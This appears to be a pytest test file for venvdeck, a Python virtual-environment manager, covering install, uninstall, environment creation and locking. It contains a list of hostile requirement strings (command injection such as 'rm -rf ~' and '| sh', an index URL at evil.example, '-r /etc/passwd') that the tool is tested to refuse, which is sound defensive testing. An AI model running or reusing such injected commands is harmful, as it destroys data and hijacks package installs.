@@ -1,0 +1,281 @@
+"""Install, upgrade, uninstall, ensurepip and create: planned, checked, then run for real (offline)."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import sys
+from pathlib import Path
+
+import pytest
+
+from venvdeck.errors import EnvironmentBusy, InvalidRequirementError, RefusedError
+from venvdeck.models import Operation, OperationKind
+from venvdeck.services.actions import (
+    ActionSettings,
+    pick_base,
+    plan_create,
+    plan_ensurepip,
+    plan_install,
+    plan_install_file,
+    plan_uninstall,
+    plan_upgrade,
+)
+from venvdeck.services.backends import Backend, find_uv
+from venvdeck.services.discovery import base_interpreters_sync
+from venvdeck.services.operations import EnvironmentLocks, OperationRunner
+from venvdeck.services.packages import list_packages
+from venvdeck.services.resolve import resolve_environment
+
+PIP = ActionSettings(Backend.PIP, uv=None)
+
+
+def _uv_settings() -> ActionSettings:
+    uv = find_uv()
+    if uv is None:
+        pytest.skip("uv is not installed")
+    return ActionSettings(Backend.UV, uv=uv)
+
+
+async def _installed(env: Path) -> dict[str, str]:
+    listing = await list_packages(resolve_environment(env))
+    return {p.name: p.version for p in listing.packages}
+
+
+async def _run(operation: Operation) -> None:
+    result = await OperationRunner().run(operation)
+    assert result.ok, "\n".join(result.output)
+
+
+@pytest.mark.usefixtures("local_index")
+async def test_install_runs_the_environments_own_pip_after_a_double_dash(pip_env: Path) -> None:
+    operation = await plan_install(resolve_environment(pip_env), ["demo-app"], PIP)
+    assert operation.argv[:4] == (str(pip_env / "bin" / "python"), "-m", "pip", "install")
+    assert "--no-user" in operation.argv
+    assert operation.argv[-2:] == ("--", "demo-app")
+    assert operation.command_line.startswith(str(pip_env / "bin" / "python"))
+    await _run(operation)
+    installed = await _installed(pip_env)
+    assert installed["demo-app"] == "0.1"
+    assert installed["demo-dep"] == "1.1"
+
+
+@pytest.mark.usefixtures("local_index")
+async def test_upgrade_and_uninstall_with_a_warning_about_dependents(pip_env: Path) -> None:
+    env = resolve_environment(pip_env)
+    await _run(await plan_install(env, ["demo-dep==1.0", "demo-app"], PIP))
+    assert (await _installed(pip_env))["demo-dep"] == "1.0"
+    await _run(await plan_upgrade(env, ["demo-dep"], PIP))
+    assert (await _installed(pip_env))["demo-dep"] == "1.1"
+
+    operation = await plan_uninstall(env, ["demo-dep"], PIP)
+    assert operation.warnings == ("demo-dep is required by demo-app",)
+    assert operation.argv[-2:] == ("--", "demo-dep")
+    await _run(operation)
+    assert "demo-dep" not in await _installed(pip_env)
+
+
+@pytest.mark.usefixtures("local_index")
+async def test_the_uv_backend_installs_into_an_environment_without_pip(bare_env: Path) -> None:
+    settings = _uv_settings()
+    operation = await plan_install(resolve_environment(bare_env), ["Foo.Bar_baz"], settings)
+    assert operation.argv[1:5] == ("pip", "install", "--python", str(bare_env / "bin" / "python"))
+    await _run(operation)
+    assert (await _installed(bare_env)) == {"Foo.Bar_baz": "2.0"}
+    await _run(await plan_uninstall(resolve_environment(bare_env), ["foo-bar-baz"], settings))
+    assert (await _installed(bare_env)) == {}
+
+
+async def test_no_pip_and_no_uv_offers_ensurepip(bare_env: Path) -> None:
+    with pytest.raises(RefusedError, match="has no pip: bootstrap it with ensurepip"):
+        await plan_install(resolve_environment(bare_env), ["demo-dep"], PIP)
+
+
+async def test_ensurepip_bootstraps_pip(bare_env: Path) -> None:
+    await _run(plan_ensurepip(resolve_environment(bare_env)))
+    assert "pip" in await _installed(bare_env)
+
+
+HOSTILE = [
+    "--index-url=https://evil.example/simple",
+    "-e .",
+    "--editable=/tmp",
+    "-r /etc/passwd",
+    "./dist/demo_dep-1.1-py3-none-any.whl",
+    "demo_dep-1.1-py3-none-any.whl",
+    "/etc/passwd",
+    "demo-dep; rm -rf ~",
+    "demo-dep && curl evil",
+    "demo-dep | sh",
+    "$(touch /tmp/pwned)",
+    "`id`",
+    "demo-dep\n--index-url https://evil.example",
+    "demo-dep\x00",
+    "x" * 5000,
+    "",
+    "pkg @ javascript:alert(1)",
+    "demo-dep==1.0 --force-reinstall",
+]
+
+
+@pytest.mark.parametrize("spec", HOSTILE)
+@pytest.mark.usefixtures("local_index")
+async def test_hostile_input_is_refused_and_changes_nothing(pip_env: Path, spec: str) -> None:
+    before = await _installed(pip_env)
+    with pytest.raises(InvalidRequirementError):
+        await plan_install(resolve_environment(pip_env), [spec], PIP)
+    assert await _installed(pip_env) == before
+    assert not Path("/tmp/pwned").exists()
+
+
+@pytest.mark.parametrize("name", ["demo-dep==1.0", "--yes", "demo-dep[x]", "not-installed", "pip; x"])
+async def test_uninstall_takes_installed_package_names_only(pip_env: Path, name: str) -> None:
+    with pytest.raises(RefusedError):
+        await plan_uninstall(resolve_environment(pip_env), [name], PIP)
+
+
+@pytest.mark.usefixtures("local_index")
+async def test_a_requirements_file_is_checked_line_by_line_before_anything_runs(
+    pip_env: Path, tmp_path: Path
+) -> None:
+    env = resolve_environment(pip_env)
+    bad = tmp_path / "bad.txt"
+    bad.write_text("# pinned\ndemo-dep==1.0\n\n--index-url https://evil.example/simple\ndemo-app\n")
+    with pytest.raises(InvalidRequirementError, match=r"bad\.txt, line 4: the option --index-url"):
+        await plan_install_file(env, bad, PIP)
+    bad.write_text("demo-dep==1.0\ndemo-app>>1\n")
+    with pytest.raises(InvalidRequirementError, match="line 2"):
+        await plan_install_file(env, bad, PIP)
+    bad.write_text("-e ../elsewhere\n")
+    with pytest.raises(InvalidRequirementError, match="line 1: editable installs"):
+        await plan_install_file(env, bad, PIP)
+    assert "demo-dep" not in await _installed(pip_env)
+
+    good = tmp_path / "requirements.txt"
+    good.write_text("demo-dep==1.0  # the old one\ndemo-app \\\n  >=0.1\n")
+    operation = await plan_install_file(env, good, PIP)
+    assert operation.argv[-3:] == ("--", "demo-dep==1.0", "demo-app>=0.1")
+    await _run(operation)
+    assert (await _installed(pip_env))["demo-dep"] == "1.0"
+
+
+def _externally_managed_python() -> Path:
+    for candidate in sorted(Path("/usr/bin").glob("python3.*")):
+        version = candidate.name.removeprefix("python")
+        if (Path("/usr/lib") / f"python{version}" / "EXTERNALLY-MANAGED").is_file():
+            return candidate
+    pytest.skip("no externally managed (PEP 668) Python on this machine")
+
+
+async def test_an_externally_managed_python_is_refused_unless_overridden() -> None:
+    env = resolve_environment(_externally_managed_python())
+    with pytest.raises(RefusedError, match="externally managed"):
+        await plan_install(env, ["demo-dep"], PIP)
+    overridden = ActionSettings(Backend.PIP, None, override_externally_managed=True)
+    operation = await plan_install(env, ["demo-dep"], overridden)  # planned, never run here
+    assert "--break-system-packages" in operation.argv
+
+
+def _base() -> object:
+    bases = base_interpreters_sync()
+    return pick_base(bases, f"{sys.version_info[0]}.{sys.version_info[1]}")
+
+
+async def test_create_makes_an_environment_with_the_chosen_base(tmp_path: Path) -> None:
+    base = _base()
+    operation = plan_create(tmp_path / "new" / ".venv", base, PIP, with_pip=False, prompt="demo")  # type: ignore[arg-type]
+    assert operation.kind is OperationKind.CREATE
+    assert operation.argv[-2:] == ("--", str(tmp_path / "new" / ".venv"))
+    await _run(operation)
+    env = resolve_environment(tmp_path / "new" / ".venv")
+    assert env.prompt == "demo"
+    assert env.python_version is not None
+    assert env.python_version.startswith(f"{sys.version_info[0]}.{sys.version_info[1]}")
+
+
+def test_create_refuses_a_folder_in_use_and_a_python_2_base(tmp_path: Path) -> None:
+    base = _base()
+    (tmp_path / "taken").mkdir()
+    (tmp_path / "taken" / "notes.txt").write_text("mine")
+    with pytest.raises(RefusedError, match="not empty"):
+        plan_create(tmp_path / "taken", base, PIP)  # type: ignore[arg-type]
+    (tmp_path / "file").write_text("")
+    with pytest.raises(RefusedError, match="is a file"):
+        plan_create(tmp_path / "file" / "env", base, PIP)  # type: ignore[arg-type]
+    python2 = [b for b in base_interpreters_sync() if (b.python_version or "").startswith("2.")]
+    if python2:
+        with pytest.raises(RefusedError, match="no venv module"):
+            plan_create(tmp_path / "py2", python2[0], PIP)
+    assert (tmp_path / "taken" / "notes.txt").read_text() == "mine"
+
+
+async def test_one_operation_per_environment_at_a_time(bare_env: Path, tmp_path: Path) -> None:
+    runner = OperationRunner(EnvironmentLocks(tmp_path / "locks"))
+    python = str(bare_env / "bin" / "python")
+    slow = Operation(
+        OperationKind.INSTALL,
+        bare_env,
+        (python, "-c", "import time; print('go', flush=True); time.sleep(2)"),
+        "slow",
+    )
+    quick = Operation(OperationKind.INSTALL, bare_env, (python, "-c", "print('hi')"), "quick")
+    other = Operation(OperationKind.INSTALL, tmp_path, (python, "-c", "print('other')"), "other env")
+    started = asyncio.Event()
+    first = asyncio.create_task(runner.run(slow, lambda line: started.set()))
+    await started.wait()
+    with pytest.raises(EnvironmentBusy, match="busy"):
+        await runner.run(quick)
+    # Another process (another venvdeck) is refused as well, through the lock file.
+    with pytest.raises(EnvironmentBusy, match="another venvdeck"):
+        await OperationRunner(EnvironmentLocks(tmp_path / "locks")).run(quick)
+    assert (await runner.run(other)).ok  # a different environment runs meanwhile
+    assert (await first).ok
+    assert (await runner.run(quick)).ok  # and the lock is free again
+
+
+async def test_cancelling_kills_the_process_group_and_frees_the_environment(
+    bare_env: Path, tmp_path: Path
+) -> None:
+    runner = OperationRunner(EnvironmentLocks(tmp_path / "locks"))
+    python = str(bare_env / "bin" / "python")
+    script = (
+        "import subprocess, sys, time\n"
+        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'])\n"
+        "print(child.pid, flush=True)\n"
+        "time.sleep(60)\n"
+    )
+    lines: list[str] = []
+    got_pid = asyncio.Event()
+
+    def on_line(line: str) -> None:
+        lines.append(line)
+        got_pid.set()
+
+    long = Operation(OperationKind.INSTALL, bare_env, (python, "-c", script), "long")
+    task = asyncio.create_task(runner.run(long, on_line))
+    await asyncio.wait_for(got_pid.wait(), 30)
+    task.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await task
+    grandchild = int(lines[0])
+    for _ in range(100):
+        try:
+            os.kill(grandchild, 0)
+        except ProcessLookupError:
+            break
+        await asyncio.sleep(0.05)
+    else:
+        pytest.fail("pip's children outlived the cancelled operation")
+    assert not runner.locks.is_held(bare_env)
+
+
+async def test_a_failed_operation_keeps_its_whole_output(bare_env: Path) -> None:
+    python = str(bare_env / "bin" / "python")
+    script = "import sys\nfor i in range(60): print('line', i)\nsys.exit(3)"
+    result = await OperationRunner().run(
+        Operation(OperationKind.INSTALL, bare_env, (python, "-c", script), "noisy")
+    )
+    assert not result.ok
+    assert result.returncode == 3
+    assert len(result.output) == 60
+    assert "exited with status 3" in result.message
